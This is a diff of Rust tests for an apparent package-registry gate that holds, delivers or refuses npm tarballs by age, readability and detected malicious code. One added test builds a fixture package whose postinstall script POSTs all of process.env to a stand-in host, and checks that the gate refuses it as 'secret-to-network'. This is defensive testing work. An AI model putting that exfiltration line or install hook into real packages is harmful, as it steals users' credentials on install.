@@ -39,13 +39,10 @@ async fn a_young_tarball_that_cannot_be_read_is_held_although_its_digest_is_righ
     assert!(document["versions"].get("1.0.1").is_none());
 
     let answered = world.gate.get(&tarball("1.0.1")).await;
-    answered.explained(
-        403,
-        &["left@1.0.1", "cannot be read", "unreadable-artifact"],
-    );
+    answered.explained(403, &["left@1.0.1", "could not be read", "not-judged"]);
     let refused = world.gate.report().await.refused;
     assert_eq!(refused.len(), 1, "{refused:?}");
-    assert_eq!(refused[0].rule, "unreadable-artifact");
+    assert_eq!(refused[0].rule, "not-judged");
     assert_eq!(world.gate.get(&tarball("1.0.0")).await.status, 200);
 }
 
@@ -106,13 +103,48 @@ async fn a_look_that_failed_once_ends_in_no_delivery_and_in_no_hold() {
 }
 
 #[tokio::test]
-async fn an_old_tarball_is_not_opened() {
+async fn a_young_one_that_is_no_archive_is_held_as_well() {
+    let world = with(release("1.0.1", days(5)).bytes("no archive at all")).await;
+    let answered = world.gate.get(&tarball("1.0.1")).await;
+    answered.explained(
+        403,
+        &["left@1.0.1", "cannot be read", "unreadable-artifact"],
+    );
+}
+
+#[tokio::test]
+async fn an_old_tarball_that_cannot_be_read_is_delivered_and_told() {
     let world = with(release("1.0.1", days(40)).bytes("no archive at all")).await;
     let answered = world.gate.get(&tarball("1.0.1")).await;
     assert_eq!(
         (answered.status, answered.text().as_str()),
         (200, "no archive at all")
     );
+    let records = world.gate.records();
+    let delivered = records.iter().find_map(|record| match record {
+        LedgerRecord::Delivered(delivered) => Some(delivered),
+        _ => None,
+    });
+    let rules = &delivered.expect("it was delivered").rules;
+    assert!(
+        rules
+            .iter()
+            .any(|rule| rule.as_str() == "unreadable-artifact"),
+        "{rules:?}"
+    );
+}
+
+#[tokio::test]
+async fn an_old_release_whose_code_is_proven_malicious_is_not_delivered() {
+    let code =
+        "fetch('https://collect.invalid/v1', {method: 'POST', body: JSON.stringify(process.env)});";
+    let manifest = r#"{"name":"left","version":"1.0.1","scripts":{"postinstall":"node setup.js"}}"#;
+    let bytes = tgz(&[("package.json", manifest), ("setup.js", code)]);
+    let world = with(release("1.0.1", days(400)).bytes(bytes)).await;
+    let answered = world.gate.get(&tarball("1.0.1")).await;
+    answered.explained(403, &["left@1.0.1", "secret-to-network", "process.env"]);
+    let refused = world.gate.report().await.refused;
+    assert_eq!(refused.len(), 1, "{refused:?}");
 }
 
 #[tokio::test]
